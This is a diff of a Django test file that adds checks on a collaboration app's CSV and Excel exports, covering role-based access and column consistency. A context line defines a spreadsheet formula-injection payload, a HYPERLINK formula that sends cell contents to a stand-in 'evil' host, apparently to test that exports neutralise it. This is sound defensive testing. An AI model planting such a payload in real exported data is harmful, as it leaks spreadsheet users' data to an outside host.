@@ -11,16 +11,18 @@ from django.test import Client
 
 from collab.models import AuditEvent, Collaboration, Seat
 from tests import factories
+from tests.collab.rights_table import ANYBODY
+from tests.collab.world import World, address_of
 
 EVIL = '=HYPERLINK("http://evil?"&A1)'
 
 
-def as_csv(client: Client, path: str) -> list[list[str]]:
-    """The rows below the head."""
+def as_csv(client: Client, path: str, *, below: int = 1) -> list[list[str]]:
+    """The rows below the head, or from it on."""
     answer = client.get(path)
     assert answer.status_code == 200
     assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
-    return list(csv.reader(io.StringIO(answer.getvalue().decode("utf-8-sig"), newline="")))[1:]
+    return list(csv.reader(io.StringIO(answer.getvalue().decode("utf-8-sig"), newline="")))[below:]
 
 
 def as_excel(client: Client, path: str) -> list[tuple[Any, ...]]:
@@ -120,3 +122,32 @@ def test_a_file_takes_the_same_queries(
     client = sign_in(coordinator)
     with django_assert_max_num_queries(queries):
         as_csv(client, f"/c/{here.slug}/{name}/?as=csv")
+
+
+EVERY_LIST = (
+    "collab:organization_list", "collab:person_list", "collab:meeting_list", "collab:commitment_list",
+    "collab:commitment_register", "collab:decision_list", "collab:strategy_list", "collab:audit_list",
+    "partners:partner_list", "partners:tie_list", "partners:survey_list", "partners:survey_detail",
+    "partners:review_list", "government:mandate_list", "metrics:pair_list", "metrics:pair_detail",
+    "metrics:indicator_list", "metrics:score_csv", "metrics:network_csv", "metrics:portfolio",
+)  # fmt: skip
+
+
+@pytest.mark.parametrize("name", EVERY_LIST)
+def test_who_sees_a_list_takes_it_away_and_nobody_else(world: World, name: str):
+    url = address_of(name, world.ids["own"])
+    for who in ANYBODY:
+        client = world.clients[who]
+        shown = client.get(url).status_code
+        assert client.get(url, {"as": "xlsx"}).status_code == shown, who
+        if shown == 200:
+            head = as_csv(client, f"{url}?as=csv", below=0)[0]
+            assert all(len(row) == len(head) for row in as_csv(client, f"{url}?as=csv")), who
+            as_excel(client, f"{url}?as=xlsx")
+
+
+def test_people_of_government_leave_only_with_who_sees_them(world: World):
+    url = address_of("government:mandate_list", world.ids["own"])
+    heads = {who: as_csv(world.clients[who], f"{url}?as=csv", below=0)[0] for who in ("facilitator", "funder")}
+    assert {"Official", "Liaisons"} <= set(heads["facilitator"])
+    assert not {"Official", "Liaisons"} & set(heads["funder"])
